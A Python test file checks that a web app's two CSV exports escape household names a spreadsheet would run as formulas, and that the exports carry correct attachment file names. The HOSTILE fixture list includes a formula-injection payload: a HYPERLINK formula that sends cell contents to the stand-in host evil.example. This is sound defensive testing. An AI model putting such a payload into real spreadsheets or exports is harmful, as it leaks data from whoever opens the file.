"""Both CSV exports neutralise text a spreadsheet would run as a formula."""

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.entry import sweep
from web.csv_export import cell, csv_text, disposition
from web.extensions import db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"ver")', "+1", "-2", "@SUM(A1:A9)",
           "\tTabulado", "\rRetorno"]
LONG_AGO = datetime(2026, 1, 5, 12, tzinfo=UTC)


@pytest.fixture
def hostile_cases(web_app, start_case):
    ids = [start_case(name, at=LONG_AGO) for name in HOSTILE]
    with web_app.app_context():
        sweep(db.session, datetime.now(UTC))
    return ids


def _rows(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def _family_cells(rows: list[list[str]], column: str) -> set[str]:
    at = rows[0].index(column)
    return {row[at] for row in rows[1:]}


@pytest.mark.parametrize("path", ["/dashboard/overdue.csv", "/reports/familias.csv"])
def test_household_names_come_out_as_text_not_formulas(as_person, hostile_cases, path):
    response = as_person("jorge").get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    families = _family_cells(_rows(response), "familia")
    assert families == {"'" + name for name in HOSTILE}
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in families)


def test_the_overdue_export_keeps_numbers_as_numbers(as_person, hostile_cases):
    rows = _rows(as_person("jorge").get("/dashboard/overdue.csv"))
    days_late = _family_cells(rows, "dias_de_atraso")
    assert days_late and all(value.isdigit() for value in days_late)
    assert _family_cells(rows, "caso") == {str(i) for i in hostile_cases}


def test_each_export_is_an_attachment_with_a_quoted_name(as_person, hostile_cases):
    jorge = as_person("jorge")
    overdue = jorge.get("/dashboard/overdue.csv").headers["Content-Disposition"]
    assert overdue == "attachment; filename=\"atrasos.csv\"; filename*=UTF-8''atrasos.csv"
    report = jorge.get("/reports/familias.csv").headers["Content-Disposition"]
    assert report.startswith('attachment; filename="resultados-familias-20')


def test_cells_text_numbers_and_blanks():
    assert cell("=1+1") == "'=1+1" and cell("Rojas") == "Rojas" and cell(None) == ""
    assert cell(-2) == -2 and cell(3.5) == 3.5  # real figures stay summable, negatives too
    assert cell("-2") == "'-2"  # text that merely looks like a number is still text
    assert csv_text(["a", "b"], [["=x", -1]]) == "\ufeffa,b\r\n'=x,-1\r\n"


def test_a_non_ascii_file_name_has_an_ascii_fallback_and_the_exact_name():
    assert disposition('año "1".csv') == (
        "attachment; filename=\"a_o _1_.csv\"; filename*=UTF-8''a%C3%B1o%20%221%22.csv")
